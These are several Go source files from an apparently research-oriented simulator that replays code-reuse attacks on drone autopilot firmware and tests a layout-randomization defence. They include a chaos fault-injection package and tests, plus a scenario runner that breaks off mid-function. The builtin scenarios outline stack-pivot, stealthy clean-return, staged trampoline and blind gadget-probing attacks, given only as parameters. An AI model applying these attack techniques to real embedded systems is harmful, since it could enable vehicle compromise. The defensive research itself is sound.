// fault (panicking a driver goroutine, dropping a datagram, flipping a
// byte) is the caller's job. The package is in the determinism
// vettool's enforced set.
package chaos

import "time"

// Dir names a link direction relative to the vehicle: Down is
// vehicle→ground (telemetry), Up is ground→vehicle (commands).
type Dir int

// Link directions.
const (
	Down Dir = iota
	Up
)

func (d Dir) String() string {
	if d == Up {
		return "up"
	}
	return "down"
}

// BoardFaultKind discriminates per-tick board fates.
type BoardFaultKind int

// Board fault kinds.
const (
	// FaultNone: the tick proceeds normally.
	FaultNone BoardFaultKind = iota
	// FaultPanic crashes the board's driver (a supervised fleet
	// recovers it; an unsupervised one dies — the point of the test).
	FaultPanic
	// FaultHang freezes the board entirely for Ticks ticks: no
	// simulation progress, no telemetry, no beacons. From the ground it
	// is indistinguishable from a dead link.
	FaultHang
	// FaultStall freezes the board's simulated clock for Ticks ticks
	// while the radio keeps beaconing: datagrams arrive carrying a
	// frozen sim time — the signature of a wedged autopilot.
	FaultStall
)

func (k BoardFaultKind) String() string {
	switch k {
	case FaultPanic:
		return "panic"
	case FaultHang:
		return "hang"
	case FaultStall:
		return "stall"
	}
	return "none"
}

// BoardFault is one board's fate for one tick.
type BoardFault struct {
	Kind BoardFaultKind
	// Ticks is the fault duration (hang/stall; 0 for panic).
	Ticks int
}

// Corruption describes one datagram's scheduled bit damage.
type Corruption struct {
	// Offset selects the damaged byte; callers reduce it modulo the
	// datagram length.
	Offset uint64
	// XOR is the flip mask, never zero.
	XOR byte
}

// Config declares a chaos schedule. The zero value injects nothing.
// All rates are probabilities in [0, 1], evaluated independently per
// (entity, tick/seq/window) from Seed.
type Config struct {
	// Seed selects the schedule. Same seed, same faults.
	Seed int64

	// PanicRate is the per-tick probability a board's driver panics.
	PanicRate float64
	// HangRate is the per-tick probability a board freezes entirely
	// for HangTicks ticks (default 25).
	HangRate  float64
	HangTicks int
	// StallRate is the per-tick probability a board's sim clock stalls
	// for StallTicks ticks (default 25) while its radio keeps beaconing.
	StallRate  float64
	StallTicks int

	// PartitionDownRate / PartitionUpRate are the per-window
	// probabilities that a vehicle's telemetry / command direction is
	// partitioned (every datagram in the window dropped). Unequal rates
	// model asymmetric loss; PartitionWindow is the window length in
	// datagram sequence numbers (default 64).
	PartitionDownRate float64
	PartitionUpRate   float64
	PartitionWindow   int

	// CorruptRate is the per-datagram probability of a byte flip in
	// flight (the transport checksum turns it into loss at the
	// receiver — never garbage).
	CorruptRate float64

	// ChurnRate is the per-(station, interval) probability that a soak
	// station tears its session down and rejoins — session-table
	// pressure for cmd/mavr-chaos.
	ChurnRate float64
}

// Active reports whether the schedule injects anything at all.
func (c Config) Active() bool { return c.BoardActive() || c.LinkActive() || c.ChurnRate > 0 }

// BoardActive reports whether any board fault is scheduled.
func (c Config) BoardActive() bool {
	return c.PanicRate > 0 || c.HangRate > 0 || c.StallRate > 0
}

// LinkActive reports whether any link fault is scheduled.
func (c Config) LinkActive() bool {
	return c.PartitionDownRate > 0 || c.PartitionUpRate > 0 || c.CorruptRate > 0
}

func (c Config) hangTicks() int {
	if c.HangTicks > 0 {
		return c.HangTicks
	}
	return 25
}

func (c Config) stallTicks() int {
	if c.StallTicks > 0 {
		return c.StallTicks
	}
	return 25
}

func (c Config) partitionWindow() uint64 {
	if c.PartitionWindow > 0 {
		return uint64(c.PartitionWindow)
	}
	return 64
}

// key mixes (seed, domain, entity, tick) into one well-distributed
// 64-bit hash — the per-decision randomness source.
func (c Config) key(domain string, entity uint64, tick uint64) uint64 {
	return splitmix64(uint64(c.Seed)) ^ fnv64(domain) ^
		splitmix64(entity*0xA24BAED4963EE407+1) ^ (tick * 0x9E3779B97F4A7C15)
}

// BoardFate returns board sysID's fate at tick. Callers are expected
// to skip fate checks while a previous hang/stall window is still
// running (see BoardSchedule, which models the same skipping).
func (c Config) BoardFate(sysID byte, tick uint64) BoardFault {
	if !c.BoardActive() {
		return BoardFault{}
	}
	k := c.key("board", uint64(sysID), tick)
	if c.PanicRate > 0 && unit(splitmix64(k+1)) < c.PanicRate {
		return BoardFault{Kind: FaultPanic}
	}
	if c.HangRate > 0 && unit(splitmix64(k+2)) < c.HangRate {
		return BoardFault{Kind: FaultHang, Ticks: c.hangTicks()}
	}
	if c.StallRate > 0 && unit(splitmix64(k+3)) < c.StallRate {
		return BoardFault{Kind: FaultStall, Ticks: c.stallTicks()}
	}
	return BoardFault{}
}

// Partitioned reports whether the datagram with sequence number seq on
// vehicle sysID's dir link falls in a partitioned window. Whole
// windows of PartitionWindow consecutive sequence numbers share a
// fate, so a partition is a contiguous outage, not i.i.d. loss.
func (c Config) Partitioned(dir Dir, sysID byte, seq uint32) bool {
	rate := c.PartitionDownRate
	if dir == Up {
		rate = c.PartitionUpRate
	}
	if rate <= 0 {
		return false
	}
	w := uint64(seq) / c.partitionWindow()
	k := c.key("partition/"+dir.String(), uint64(sysID), w)
	return unit(splitmix64(k+4)) < rate
}

// Corrupt returns the scheduled damage for the datagram with sequence
// number seq on vehicle sysID's dir link, if any.
func (c Config) Corrupt(dir Dir, sysID byte, seq uint32) (Corruption, bool) {
	if c.CorruptRate <= 0 {
		return Corruption{}, false
	}
	k := c.key("corrupt/"+dir.String(), uint64(sysID), uint64(seq))
	if unit(splitmix64(k+5)) >= c.CorruptRate {
		return Corruption{}, false
	}
	x := byte(splitmix64(k + 6))
	if x == 0 {
		x = 0xFF
	}
	return Corruption{Offset: splitmix64(k + 7), XOR: x}, true
}

// Churn reports whether soak station should tear down and rejoin its
// session at interval tick.
func (c Config) Churn(station uint64, tick uint64) bool {
	if c.ChurnRate <= 0 {
		return false
	}
	k := c.key("churn", station, tick)
	return unit(splitmix64(k+8)) < c.ChurnRate
}

// Backoff returns a supervisor's restart delay for entity's attempt-th
// consecutive restart: exponential from base, capped at ceil, with
// deterministic jitter in [d/2, d) keyed on (seed, entity, attempt) —
// boards crashed by the same chaos tick do not restart in lockstep,
// yet the same seed always yields the same restart schedule.
func Backoff(seed int64, entity uint64, attempt int, base, ceil time.Duration) time.Duration {
	if base <= 0 {
		base = 10 * time.Millisecond
	}
	if ceil <= 0 {
		ceil = time.Second
	}
	d := base
	for i := 0; i < attempt && d < ceil; i++ {
		d *= 2
	}
	if d > ceil {
		d = ceil
	}
	k := splitmix64(uint64(seed)) ^ fnv64("backoff") ^
		splitmix64(entity+1) ^ splitmix64(uint64(attempt)+0x9E37)
	half := d / 2
	return half + time.Duration(unit(splitmix64(k))*float64(half))
}

// splitmix64 is the SplitMix64 finalizer.
func splitmix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9
	x = (x ^ (x >> 27)) * 0x94D049BB133111EB
	return x ^ (x >> 31)
}

// fnv64 hashes a domain name (FNV-1a).
func fnv64(s string) uint64 {
	h := uint64(0xcbf29ce484222325)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 0x100000001b3
	}
	return h
}

// unit maps a hash to [0, 1).
func unit(x uint64) float64 {
	return float64(x>>11) / (1 << 53)
}
