package chaos

import (
	"testing"
)

// Purity: the same (seed, entity, tick) always yields the same fate,
// and different seeds yield different schedules.
func TestFatesDeterministic(t *testing.T) {
	cfg := Config{
		Seed: 42, PanicRate: 0.01, HangRate: 0.01, StallRate: 0.01,
		PartitionDownRate: 0.2, PartitionUpRate: 0.05, CorruptRate: 0.1,
	}
	for tick := uint64(0); tick < 5000; tick++ {
		a := cfg.BoardFate(3, tick)
		b := cfg.BoardFate(3, tick)
		if a != b {
			t.Fatalf("tick %d: fate not stable: %v vs %v", tick, a, b)
		}
	}
	for seq := uint32(0); seq < 5000; seq++ {
		if cfg.Partitioned(Down, 1, seq) != cfg.Partitioned(Down, 1, seq) {
			t.Fatalf("seq %d: partition fate not stable", seq)
		}
		c1, ok1 := cfg.Corrupt(Up, 2, seq)
		c2, ok2 := cfg.Corrupt(Up, 2, seq)
		if ok1 != ok2 || c1 != c2 {
			t.Fatalf("seq %d: corruption fate not stable", seq)
		}
	}
	other := cfg
	other.Seed = 43
	if cfg.LinkDigest(4, 2000) == other.LinkDigest(4, 2000) {
		t.Error("different seeds produced identical link digests")
	}
	if cfg.ScheduleTrace(4, 2000) != cfg.ScheduleTrace(4, 2000) {
		t.Error("schedule trace not byte-stable")
	}
}

// Rates behave like probabilities: observed frequencies land near the
// configured rates, zero rates fire never, rate 1 fires always.
func TestRates(t *testing.T) {
	cfg := Config{Seed: 7, PanicRate: 0.02}
	const n = 50000
	hits := 0
	for tick := uint64(0); tick < n; tick++ {
		if cfg.BoardFate(1, tick).Kind == FaultPanic {
			hits++
		}
	}
	got := float64(hits) / n
	if got < 0.015 || got > 0.025 {
		t.Errorf("panic rate %.4f, want ~0.02", got)
	}

	if (Config{Seed: 7}).BoardFate(1, 123).Kind != FaultNone {
		t.Error("zero config injected a fault")
	}
	always := Config{Seed: 7, PartitionDownRate: 1}
	never := Config{Seed: 7, PartitionUpRate: 0.5}
	for seq := uint32(0); seq < 1000; seq++ {
		if !always.Partitioned(Down, 1, seq) {
			t.Fatalf("rate-1 partition let seq %d through", seq)
		}
		if always.Partitioned(Up, 1, seq) {
			t.Fatalf("down-only partition hit the uplink at seq %d", seq)
		}
		if never.Partitioned(Down, 1, seq) {
			t.Fatalf("up-only partition hit the downlink at seq %d", seq)
		}
	}
}

// Partitions come in contiguous windows: within one window every seq
// shares its fate.
func TestPartitionWindows(t *testing.T) {
	cfg := Config{Seed: 3, PartitionDownRate: 0.3, PartitionWindow: 32}
	transitions := 0
	prev := cfg.Partitioned(Down, 1, 0)
	for seq := uint32(1); seq < 32*200; seq++ {
		cur := cfg.Partitioned(Down, 1, seq)
		if cur != prev {
			if seq%32 != 0 {
				t.Fatalf("partition fate flipped mid-window at seq %d", seq)
			}
			transitions++
		}
		prev = cur
	}
	if transitions == 0 {
		t.Error("no partition windows over 200 windows at rate 0.3")
	}
}

// Corruption never schedules a zero XOR mask (a no-op flip would make
// the checksum test vacuous).
func TestCorruptMaskNonZero(t *testing.T) {
	cfg := Config{Seed: 9, CorruptRate: 1}
	for seq := uint32(0); seq < 2000; seq++ {
		c, ok := cfg.Corrupt(Down, 1, seq)
		if !ok {
			t.Fatalf("rate-1 corruption skipped seq %d", seq)
		}
		if c.XOR == 0 {
			t.Fatalf("zero XOR mask at seq %d", seq)
		}
	}
}

// The schedule enumerator skips fate checks inside hang/stall windows,
// mirroring the driver contract.
func TestBoardScheduleSkipsWindows(t *testing.T) {
	cfg := Config{Seed: 5, HangRate: 0.05, HangTicks: 10}
	events := cfg.BoardSchedule(2, 5000)
	if len(events) == 0 {
		t.Fatal("no hang events at rate 0.05 over 5000 ticks")
	}
	var last map[byte]uint64 = map[byte]uint64{}
	for _, e := range events {
		if e.Kind != FaultHang || e.Ticks != 10 {
			t.Fatalf("unexpected event %v", e)
		}
		if prev, ok := last[e.SysID]; ok && e.Tick <= prev+uint64(e.Ticks) {
			t.Fatalf("event %v fired inside the previous hang window (prev=%d)", e, prev)
		}
		last[e.SysID] = e.Tick
	}
}
