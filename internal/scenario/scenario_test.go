package scenario

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func goldenDir() string { return filepath.Join("..", "..", "testdata", "golden") }

func readGolden(t *testing.T, name string) string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(goldenDir(), name+".jsonl"))
	if err != nil {
		t.Fatalf("golden trace missing (run 'mavr-scenario record'): %v", err)
	}
	return string(raw)
}

// The conformance suite: every builtin scenario must replay
// byte-identically against its checked-in golden trace. Because this
// test also runs under -race and arbitrary GOMAXPROCS in CI, passing
// it proves the traces are execution-environment-independent.
func TestGoldenConformance(t *testing.T) {
	for _, spec := range Builtin() {
		spec := spec
		t.Run(spec.Name, func(t *testing.T) {
			golden := readGolden(t, spec.Name)
			res, err := Run(spec)
			if err != nil {
				t.Fatal(err)
			}
			if d := Compare(golden, res.Trace()); d != nil {
				t.Fatalf("trace diverged from golden:\n%s", d)
			}
		})
	}
}

// Two runs of the same spec in the same process must be byte-identical
// (no hidden shared state between runs).
func TestTraceByteIdenticalAcrossRuns(t *testing.T) {
	for _, name := range []string{"v1-crash", "v2-stealthy-clean-return"} {
		spec, err := Lookup(name)
		if err != nil {
			t.Fatal(err)
		}
		a, err := Run(spec)
		if err != nil {
			t.Fatal(err)
		}
		b, err := Run(spec)
		if err != nil {
			t.Fatal(err)
		}
		if d := Compare(a.Trace(), b.Trace()); d != nil {
			t.Fatalf("%s: repeated run diverged:\n%s", name, d)
		}
	}
}

// The golden traces must be sensitive: mutating any attack or defense
// constant must flip at least one scenario to a structured divergence.
// Each mutation perturbs exactly one knob of a builtin spec and
// asserts the replay no longer matches that scenario's golden trace.
func TestFaultInjectionFlipsGolden(t *testing.T) {
	mutations := []struct {
		name   string
		base   string
		mutate func(*Spec)
	}{
		{"attack-write-value", "v1-crash", func(s *Spec) { s.Injections[0].Value = 0x7E }},
		{"attack-injection-time", "v2-stealthy-clean-return", func(s *Spec) { s.Injections[0].At += 10 * time.Millisecond }},
		{"link-fault-schedule", "bruteforce-under-rerandomization", func(s *Spec) { s.Link.DropRate = 0.04 }},
		// A probe crash halts the core, so detection latency is exactly
		// the watchdog timeout — stretching it must shift every
		// downstream event.
		{"defense-watchdog-timeout", "bruteforce-under-rerandomization", func(s *Spec) { s.WatchdogTimeout = 200 * time.Millisecond }},
		{"defense-programming-baud", "v2-vs-mavr-detected", func(s *Spec) { s.ProgramBaud = 553600 }},
		{"defense-randomization-seed", "v2-vs-mavr-detected", func(s *Spec) { s.Seed++ }},
		{"gcs-silence-threshold", "v2-stealthy-clean-return", func(s *Spec) { s.SilenceThreshold = 5 * time.Millisecond }},
		{"chaos-partition-rate", "chaos-pure-link-faults", func(s *Spec) { s.Chaos.PartitionRate = 0.35 }},
		{"chaos-corrupt-rate", "chaos-v2-detected-through-loss", func(s *Spec) { s.Chaos.CorruptRate = 0.08 }},
	}
	for _, m := range mutations {
		m := m
		t.Run(m.name, func(t *testing.T) {
			spec, err := Lookup(m.base)
			if err != nil {
				t.Fatal(err)
			}
			golden := readGolden(t, m.base)
			m.mutate(&spec)
			res, err := Run(spec)
			if err != nil {
				t.Fatal(err)
			}
			d := Compare(golden, res.Trace())
			if d == nil {
				t.Fatalf("mutation %s left %s's trace identical — golden is not sensitive to it", m.name, m.base)
			}
			if d.Line <= 0 || d.Reason == "" {
				t.Fatalf("divergence not structured: %+v", d)
			}
			if d.Reason == "mismatch" && (d.Golden == "" || d.Got == "") {
				t.Fatalf("mismatch divergence missing line content: %+v", d)
			}
		})
	}
}

func TestParseTraceRoundTrip(t *testing.T) {
	spec, err := Lookup("v1-crash")
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(spec)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := ParseTrace(strings.NewReader(res.Trace()))
	if err != nil {
		t.Fatal(err)
	}
	if got := TraceString(recs); got != res.Trace() {
		t.Fatal("parse/encode round trip not canonical")
	}
	if len(recs) != len(res.Records) {
		t.Fatalf("round trip lost records: %d != %d", len(recs), len(res.Records))
	}
	last := recs[len(recs)-1]
	if last.Kind != "verdict" || last.Verdict == nil {
		t.Fatalf("final record is %q, want verdict", last.Kind)
	}
}

func TestCompareReportsStructuredDivergence(t *testing.T) {
	a := "{\"t\":1,\"kind\":\"boot\"}\n{\"t\":2,\"kind\":\"fault\"}\n"
	if d := Compare(a, a); d != nil {
		t.Fatalf("identical traces diverged: %v", d)
	}
	d := Compare(a, "{\"t\":1,\"kind\":\"boot\"}\n{\"t\":2,\"kind\":\"reflash\"}\n")
	if d == nil || d.Line != 2 || d.Reason != "mismatch" || d.GoldenKind != "fault" || d.GotKind != "reflash" {
		t.Fatalf("mismatch diff wrong: %+v", d)
	}
	d = Compare(a, "{\"t\":1,\"kind\":\"boot\"}\n")
	if d == nil || d.Line != 2 || d.Reason != "truncated" {
		t.Fatalf("truncated diff wrong: %+v", d)
	}
	d = Compare("{\"t\":1,\"kind\":\"boot\"}\n", a)
	if d == nil || d.Line != 2 || d.Reason != "extra" {
		t.Fatalf("extra diff wrong: %+v", d)
	}
}

func TestSpecValidation(t *testing.T) {
	if _, err := Run(Spec{Name: "x", Board: "hovercraft"}); err == nil {
		t.Error("unknown board accepted")
	}
	if _, err := Run(Spec{Name: "x", App: "spaceship"}); err == nil {
		t.Error("unknown app accepted")
	}
	if _, err := Run(Spec{Name: "x", Run: 50 * time.Millisecond,
		Injections: []Injection{{Kind: "v9"}}}); err == nil {
		t.Error("unknown injection kind accepted")
	}
	if _, err := Lookup("nope"); err == nil {
		t.Error("unknown builtin accepted")
	}
}

// The chaos verdict taxonomy, both directions: pure link faults —
// partitions, corruption — must never produce a stealth-attack
// verdict, while a real attack must still be detected through the
// same impaired link. One without the other would make the chaos
// scenarios either alarmist or blind.
func TestChaosVerdictTaxonomy(t *testing.T) {
	pure, err := Lookup("chaos-pure-link-faults")
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(pure)
	if err != nil {
		t.Fatal(err)
	}
	v := res.Verdict
	if v.Compromised {
		t.Error("pure link faults produced a compromise verdict")
	}
	if v.VehicleSilent {
		t.Errorf("link outages charged to the vehicle (maxSilence=%v)", time.Duration(v.Final.MaxSilence))
	}
	if v.Health == "compromised" || v.Health == "vehicle-dead" {
		t.Errorf("pure link faults graded %q", v.Health)
	}
	if v.Final.LinkOutages == 0 || v.Final.CorruptDrops == 0 {
		t.Errorf("chaos injected nothing: outages=%d corruptDrops=%d",
			v.Final.LinkOutages, v.Final.CorruptDrops)
	}
	if v.Final.Garbage != 0 {
		t.Errorf("corruption leaked %d garbage bytes past the transport", v.Final.Garbage)
	}

	attack, err := Lookup("chaos-v2-detected-through-loss")
	if err != nil {
		t.Fatal(err)
	}
	res, err = Run(attack)
	if err != nil {
		t.Fatal(err)
	}
	v = res.Verdict
	if !v.Compromised || !v.VehicleSilent {
		t.Errorf("stale V2 not detected through the impaired link: compromised=%v silent=%v",
			v.Compromised, v.VehicleSilent)
	}
	if v.Health != "vehicle-dead" {
		t.Errorf("detected attack graded %q, want vehicle-dead", v.Health)
	}
	if v.AttackLanded {
		t.Error("stale V2 landed against the randomized layout")
	}
	if v.FailuresDetected == 0 || v.Reflashes == 0 {
		t.Errorf("master never recovered: failures=%d reflashes=%d", v.FailuresDetected, v.Reflashes)
	}
}

// A software-only board runs the harness too (the §VIII-A strawman):
// the stale V2 attack against its fixed flash-time layout fails, and
// no master exists to detect the failure or re-randomize.
func TestSoftwareOnlyBoardNoRecovery(t *testing.T) {
	res, err := Run(Spec{
		Name:  "softonly",
		Board: BoardSoftwareOnly,
		Seed:  3,
		Run:   800 * time.Millisecond,
		Injections: []Injection{
			{At: 100 * time.Millisecond, Kind: InjectV2, Value: 0x7F},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict.AttackLanded {
		t.Error("stale V2 landed against a randomized layout")
	}
	if res.Verdict.Reflashes != 0 || res.Verdict.FailuresDetected != 0 {
		t.Error("software-only board has no master to detect or reflash")
	}
	if res.Verdict.Final.Epoch != 0 {
		t.Error("software-only board must never gain randomization epochs")
	}
}
