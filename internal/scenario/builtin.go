package scenario

import (
	"fmt"
	"time"
)

// Builtin returns the canonical paper scenarios, each locked down by a
// golden trace in testdata/golden/<name>.jsonl. Together they pin the
// paper's full claim set: the crash attack is loud, the stealthy
// attacks are invisible, MAVR turns the stealthy attack into a
// detected failure with in-flight recovery, and brute-force probing
// never accumulates knowledge against a re-randomizing victim.
func Builtin() []Spec {
	return []Spec{
		{
			// §IV-C / §VII-A: V1 performs its write but destroys the
			// stack; the board crashes and the ground station alarms.
			Name:  "v1-crash",
			Notes: "V1 write-mem chain lands its write, smashes the stack and crashes the board; the GCS detects the compromise",
			Board: BoardUnprotected,
			Seed:  1,
			Run:   1500 * time.Millisecond,
			Injections: []Injection{
				{At: 200 * time.Millisecond, Kind: InjectV1, Value: 0x7F},
			},
		},
		{
			// §IV-D: the stealthy clean-return attack: same write, frame
			// repaired, telemetry uninterrupted, GCS sees nothing.
			Name:  "v2-stealthy-clean-return",
			Notes: "V2 pivots into the buffer, writes, repairs the frame and returns cleanly; the GCS verdict stays clean",
			Board: BoardUnprotected,
			Seed:  1,
			Run:   1500 * time.Millisecond,
			Injections: []Injection{
				{At: 200 * time.Millisecond, Kind: InjectV2, Value: 0x40},
			},
		},
		{
			// §IV-E: the trampoline — staged packets build a large chain
			// in free SRAM, a final pivot executes it, all stealthy.
			Name:  "v3-trampoline",
			Notes: "V3 stages a multi-write chain into free SRAM over several stealthy packets, then pivots into it",
			Board: BoardUnprotected,
			Seed:  1,
			Run:   2 * time.Second,
			Injections: []Injection{
				{At: 200 * time.Millisecond, Kind: InjectV3, Value: 0x33, Addr: 0x1900, StageWrites: 4},
			},
		},
		{
			// §V, §VII-A: the same stale V2 payload against MAVR: the
			// chain misfires on the randomized layout, the watchdog
			// detects the failure, the master re-randomizes and the
			// vehicle recovers in flight.
			Name:            "v2-vs-mavr-detected",
			Notes:           "stale V2 payload vs the randomized board: write fails, master detects and re-randomizes, vehicle recovers",
			Board:           BoardMAVR,
			Seed:            7,
			WatchdogTimeout: 20 * time.Millisecond,
			Run:             3 * time.Second,
			Injections: []Injection{
				{At: 200 * time.Millisecond, Kind: InjectV2, Value: 0x7F},
			},
		},
		{
			// Chaos conformance: a healthy vehicle behind a partitioning,
			// corrupting downlink. Every impairment must land in the
			// link-side taxonomy (link gaps, corruption drops, booked
			// outages) — the verdict stays clear of compromise and the
			// graded health is a link verdict, never a vehicle one.
			Name:  "chaos-pure-link-faults",
			Notes: "partition outages and datagram corruption against a healthy vehicle: degradation and link death, zero compromise evidence",
			Board: BoardUnprotected,
			Seed:  13,
			Run:   3 * time.Second,
			Chaos: ChaosSpec{PartitionRate: 0.2, PartitionWindow: 8192, CorruptRate: 0.05},
		},
		{
			// Chaos conformance, the other direction: a real stale-V2
			// attack against MAVR must still be detected through 30%
			// datagram loss plus chaos partitions and corruption — link
			// faults must not grant the attacker cover.
			Name:            "chaos-v2-detected-through-loss",
			Notes:           "stale V2 vs MAVR through 30% loss, partitions and corruption: the crash is still detected and recovered",
			Board:           BoardMAVR,
			Seed:            7,
			WatchdogTimeout: 20 * time.Millisecond,
			Run:             3 * time.Second,
			Link:            LinkSpec{DropRate: 0.3},
			Chaos:           ChaosSpec{PartitionRate: 0.15, PartitionWindow: 4096, CorruptRate: 0.05},
			Injections: []Injection{
				{At: 200 * time.Millisecond, Kind: InjectV2, Value: 0x7F},
			},
		},
		{
			// §V-D / §VIII-A: blind gadget probes against a
			// re-randomizing victim over a lossy downlink — every probe
			// triggers detection + a fresh epoch, so eliminations never
			// accumulate, and datagram loss stays classified as link
			// gaps rather than compromise.
			Name:            "bruteforce-under-rerandomization",
			Notes:           "three blind gadget probes, each detected and answered with a new randomization epoch; downlink loss tolerated",
			Board:           BoardMAVR,
			Seed:            11,
			WatchdogTimeout: 20 * time.Millisecond,
			Run:             6 * time.Second,
			Link:            LinkSpec{DropRate: 0.03},
			Injections: []Injection{
				{At: 200 * time.Millisecond, Kind: InjectProbe, Candidate: 0x000400, Value: 0x7F},
				{At: 2200 * time.Millisecond, Kind: InjectProbe, Candidate: 0x000800, Value: 0x7F},
				{At: 4200 * time.Millisecond, Kind: InjectProbe, Candidate: 0x000C00, Value: 0x7F},
			},
		},
	}
}

// Lookup resolves a builtin scenario by name.
func Lookup(name string) (Spec, error) {
	for _, s := range Builtin() {
		if s.Name == name {
			return s, nil
		}
	}
	return Spec{}, fmt.Errorf("scenario: no builtin scenario %q", name)
}
