package scenario

import (
	"fmt"
	"sort"
	"time"

	"mavr/internal/attack"
	"mavr/internal/board"
	"mavr/internal/chaos"
	"mavr/internal/firmware"
	"mavr/internal/gcs"
	"mavr/internal/netlink"
)

// Result is one scenario execution: the canonical trace, the final
// verdict and (for tests) the underlying system.
type Result struct {
	Spec    Spec
	Records []Record
	Verdict Verdict
	// Sys is the vehicle after the run (inspection only).
	Sys *board.System
	// Mon is the ground station monitor after the run.
	Mon *gcs.Monitor
}

// Trace renders the canonical JSONL trace.
func (r *Result) Trace() string { return TraceString(r.Records) }

// send is one uplink packet scheduled by the injection plan.
type send struct {
	at      time.Duration // sim time relative to run start
	note    string
	payload []byte // raw overflow payload (pre-framing)
	landed  func(*board.System) bool
}

// Run executes the scenario and returns its trace. It is strictly
// single-goroutine and wall-clock-free: the same Spec always yields a
// byte-identical trace.
func Run(spec Spec) (*Result, error) {
	spec = spec.withDefaults()
	app, err := spec.appSpec()
	if err != nil {
		return nil, err
	}
	img, err := firmware.Generate(app, firmware.ModeMAVR)
	if err != nil {
		return nil, err
	}
	sends, err := buildSends(spec, img)
	if err != nil {
		return nil, err
	}

	sys, err := buildSystem(spec)
	if err != nil {
		return nil, err
	}
	if err := sys.FlashFirmware(img); err != nil {
		return nil, err
	}
	if spec.Observe != nil {
		spec.Observe(sys)
	}
	if _, err := sys.Boot(); err != nil {
		return nil, err
	}

	chaosOn := spec.Chaos.Active()
	r := &Result{Spec: spec, Sys: sys, Mon: &gcs.Monitor{TolerateLinkLoss: spec.Link.Active() || chaosOn}}
	link := netlink.SimConfig{Seed: spec.Seed, DropRate: spec.Link.DropRate, DupRate: spec.Link.DupRate}
	ch := chaos.Config{
		Seed:              spec.Seed,
		PartitionDownRate: spec.Chaos.PartitionRate,
		PartitionWindow:   spec.Chaos.PartitionWindow,
		CorruptRate:       spec.Chaos.CorruptRate,
	}
	var split netlink.StreamSplitter
	var dgSeq uint32
	var mavSeq byte
	var eventsSeen int
	var prev Counters
	// inOutage tracks a chaos partition in progress: datagrams are being
	// dropped wholesale, so the monitor must not be Fed (a Feed is
	// arrival evidence) — it is kept on link-idle rations until traffic
	// resumes and the outage is booked against the link.
	var inOutage bool

	emitEvents := func() {
		evs := sys.Events()
		for ; eventsSeen < len(evs); eventsSeen++ {
			e := evs[eventsSeen]
			r.Records = append(r.Records, Record{
				T: int64(e.At), Kind: e.Kind.String(), Note: e.Note,
			})
		}
	}
	counters := func() Counters {
		c := Counters{
			Pulses:      r.Mon.Pulses,
			SeqGaps:     r.Mon.SeqGaps,
			LinkGaps:    r.Mon.LinkGaps,
			Garbage:     r.Mon.Garbage,
			Heartbeats:  r.Mon.Heartbeats,
			FrameErrors: r.Mon.HeartbeatErrors,
			RawIMUs:        r.Mon.RawIMUs,
			ParamEchoes:    r.Mon.ParamEchoes,
			MaxSilence:     int64(r.Mon.MaxSilence),
			LinkOutages:    r.Mon.LinkOutages,
			CorruptDrops:   r.Mon.CorruptDrops,
			MaxLinkSilence: int64(r.Mon.MaxLinkSilence),
		}
		if sys.Master != nil {
			c.Epoch = sys.Master.Stats().Randomizations
		}
		return c
	}
	emitDeltas := func(now time.Duration) {
		cur := counters()
		t := int64(now)
		for _, d := range []struct {
			kind string
			n    int
		}{
			{"seq-gap", cur.SeqGaps - prev.SeqGaps},
			{"link-gap", cur.LinkGaps - prev.LinkGaps},
			{"garbage", cur.Garbage - prev.Garbage},
			{"frame-error", cur.FrameErrors - prev.FrameErrors},
			{"heartbeat", cur.Heartbeats - prev.Heartbeats},
			{"raw-imu", cur.RawIMUs - prev.RawIMUs},
			{"param-echo", cur.ParamEchoes - prev.ParamEchoes},
			{"corrupt-drop", cur.CorruptDrops - prev.CorruptDrops},
			{"link-outage", cur.LinkOutages - prev.LinkOutages},
		} {
			if d.n != 0 {
				r.Records = append(r.Records, Record{T: t, Kind: d.kind, N: d.n})
			}
		}
		prev = cur
	}

	startNote := fmt.Sprintf("%s board=%s app=%s seed=%d drop=%g dup=%g injections=%d",
		spec.Name, spec.Board, spec.App, spec.Seed, spec.Link.DropRate, spec.Link.DupRate, len(spec.Injections))
	if chaosOn {
		startNote += fmt.Sprintf(" chaos(partition=%g window=%d corrupt=%g)",
			spec.Chaos.PartitionRate, spec.Chaos.PartitionWindow, spec.Chaos.CorruptRate)
	}
	r.Records = append(r.Records, Record{T: 0, Kind: "start", Note: startNote})
	emitEvents() // boot (+ initial randomization on MAVR boards)

	start := sys.Now()
	end := start + spec.Run
	nextCheckpoint := spec.Checkpoint
	sent := 0
	for sys.Now() < end {
		now := sys.Now()
		elapsed := now - start
		// Fire injections that are due before this step.
		for sent < len(sends) && sends[sent].at <= elapsed {
			s := sends[sent]
			f := attack.Frame(s.payload)
			f.Seq = mavSeq
			mavSeq++
			wire := f.MarshalOversize()
			sys.SendToUAV(wire)
			r.Records = append(r.Records, Record{
				T: int64(now), Kind: "inject", Note: s.note,
				N: len(wire), Payload: fnvDigest(wire),
			})
			sent++
		}

		step := spec.Step
		if rem := end - now; rem < step {
			step = rem
		}
		if err := sys.Run(step); err != nil {
			return nil, err
		}
		raw := sys.DrainGCS()
		if spec.Link.Active() || chaosOn {
			var corrupted, partitioned int
			raw, partitioned, corrupted = applyFaults(&split, link, ch, spec.Link.Active(), &dgSeq, raw)
			for i := 0; i < corrupted; i++ {
				r.Mon.NoteCorrupt()
			}
			switch {
			case inOutage && len(raw) == 0:
				// Outage still in progress (or the board is silent behind
				// it): no arrival evidence, keep the link-silence clock
				// running instead of Feeding.
				r.Mon.FeedLinkIdle(sys.Now())
			case len(raw) == 0 && partitioned > 0:
				// The partition swallowed everything this step: from the
				// ground, nothing arrived at all.
				inOutage = true
				r.Mon.FeedLinkIdle(sys.Now())
			case inOutage:
				// Traffic resumed: book the outage against the link, then
				// deliver.
				r.Mon.NoteLinkOutage(sys.Now())
				inOutage = false
				r.Mon.Feed(raw, sys.Now())
			default:
				r.Mon.Feed(raw, sys.Now())
			}
		} else {
			r.Mon.Feed(raw, sys.Now())
		}

		emitEvents()
		emitDeltas(sys.Now())
		if sys.Now()-start >= nextCheckpoint {
